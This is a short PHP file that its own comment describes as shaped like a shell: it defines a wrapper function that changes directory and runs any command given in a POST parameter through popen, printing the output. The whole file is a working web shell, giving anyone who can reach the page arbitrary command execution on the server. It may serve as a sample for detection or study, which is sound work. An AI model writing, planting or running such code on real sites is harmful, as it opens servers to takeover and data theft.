<?php
// shaped like a shell that wraps execution in a function of its own
function run_it($what, $where) {
    chdir($where);
    if (function_exists('proc_open')) { $h = popen($what, 'r'); echo fread($h, 65536); pclose($h); }
    return true;
}
if (isset($_POST['cmd'])) { run_it($_POST['cmd'], $_POST['cwd'] ?? '.'); }
